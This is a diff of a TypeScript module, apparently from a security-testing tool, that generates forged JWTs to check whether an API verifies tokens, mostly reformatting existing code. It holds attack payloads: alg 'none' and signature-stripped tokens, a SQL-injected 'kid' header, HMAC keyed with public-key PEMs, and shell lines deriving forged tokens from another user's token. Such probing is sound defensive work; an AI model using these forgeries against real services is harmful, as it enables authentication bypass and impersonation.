@@ -1,4 +1,4 @@
-import { createHmac, createPublicKey, randomUUID, type JsonWebKey } from 'node:crypto';
+import { createHmac, createPublicKey, randomUUID } from 'node:crypto';
 import { exportJWK, generateKeyPair, importJWK, SignJWT, type JWK, type JSONWebKeySet } from 'jose';
 import { shellQuote } from './evidence.ts';
 import type { Bearer } from './target.ts';
@@ -23,7 +23,11 @@ export function jwtHeader(token: string): Record<string, unknown> {
   }
 }
 
-function hs256(header: Record<string, unknown>, claims: Record<string, unknown>, secret: Buffer | string): string {
+function hs256(
+  header: Record<string, unknown>,
+  claims: Record<string, unknown>,
+  secret: Buffer | string,
+): string {
   const input = `${b64({ ...header, alg: 'HS256' })}.${b64(claims)}`;
   return `${input}.${createHmac('sha256', secret).update(input).digest('base64url')}`;
 }
@@ -60,10 +64,7 @@ export async function forgeries(tokenA: string, jwks: JSONWebKeySet | undefined)
       ruleId: 'jwt-alg-none',
       variant: alg,
       description: `user A's claims under an unsigned header (alg "${alg}")`,
-      bearer: derived(
-        `${b64(h)}.${payload}.`,
-        `FORGED="${b64(h)}.$(printf '%s' "$TOKEN_A" | cut -d. -f2)."`,
-      ),
+      bearer: derived(`${b64(h)}.${payload}.`, `FORGED="${b64(h)}.$(printf '%s' "$TOKEN_A" | cut -d. -f2)."`),
     });
   }
   out.push({
@@ -72,7 +73,11 @@ export async function forgeries(tokenA: string, jwks: JSONWebKeySet | undefined)
     description: "user A's token with its signature removed",
     bearer: derived(`${head}.${payload}.`, `FORGED="$(printf '%s' "$TOKEN_A" | cut -d. -f1,2)."`),
   });
-  const tampered = b64({ ...claims, scope: `${typeof claims['scope'] === 'string' ? claims['scope'] : ''} rampart-probe`.trim(), jti: randomUUID() });
+  const tampered = b64({
+    ...claims,
+    scope: `${typeof claims['scope'] === 'string' ? claims['scope'] : ''} rampart-probe`.trim(),
+    jti: randomUUID(),
+  });
   out.push({
     ruleId: 'jwt-signature-not-verified',
     variant: 'claims-tampered',
@@ -118,13 +123,15 @@ export async function forgeries(tokenA: string, jwks: JSONWebKeySet | undefined)
   out.push({
     ruleId: 'jwt-header-key-injection',
     variant: 'kid-sql',
-    description: "HS256 keyed with the value a SQL-injected kid selects",
+    description: 'HS256 keyed with the value a SQL-injected kid selects',
     bearer: inline(hs256({ typ, kid: "x' UNION SELECT 'rampart-probe' -- " }, fresh, 'rampart-probe')),
   });
 
   for (const [index, key] of (jwks?.keys ?? []).slice(0, 3).entries()) {
     if (key.kty !== 'RSA' && key.kty !== 'EC' && key.kty !== 'OKP') continue;
-    const pem = createPublicKey({ key: key as JsonWebKey, format: 'jwk' }).export({ type: 'spki', format: 'pem' }).toString();
+    const pem = createPublicKey({ key: key, format: 'jwk' })
+      .export({ type: 'spki', format: 'pem' })
+      .toString();
     const h = { typ, ...(key.kid === undefined ? {} : { kid: key.kid }) };
     for (const [variant, secret] of [
       [`pem-${index}`, pem],
@@ -176,9 +183,24 @@ export async function claimForgeries(tokenA: string, signingKey: JWK): Promise<F
   delete withoutExp['exp'];
   const variants: [string, string, string, Record<string, unknown>][] = [
     ['jwt-no-exp-accepted', 'no-exp', 'without "exp"', withoutExp],
-    ['jwt-expired-accepted', 'expired', 'expired an hour ago', { ...base, iat: now - 7200, nbf: now - 7200, exp: now - 3600 }],
-    ['jwt-wrong-audience', 'wrong-aud', 'for the audience https://rampart-probe.invalid', { ...base, aud: 'https://rampart-probe.invalid' }],
-    ['jwt-wrong-issuer', 'wrong-iss', 'from the issuer https://rampart-probe.invalid', { ...base, iss: 'https://rampart-probe.invalid' }],
+    [
+      'jwt-expired-accepted',
+      'expired',
+      'expired an hour ago',
+      { ...base, iat: now - 7200, nbf: now - 7200, exp: now - 3600 },
+    ],
+    [
+      'jwt-wrong-audience',
+      'wrong-aud',
+      'for the audience https://rampart-probe.invalid',
+      { ...base, aud: 'https://rampart-probe.invalid' },
+    ],
+    [
+      'jwt-wrong-issuer',
+      'wrong-iss',
+      'from the issuer https://rampart-probe.invalid',
+      { ...base, iss: 'https://rampart-probe.invalid' },
+    ],
   ];
   const out: Forgery[] = [];
   for (const [ruleId, variant, what, changed] of variants) {
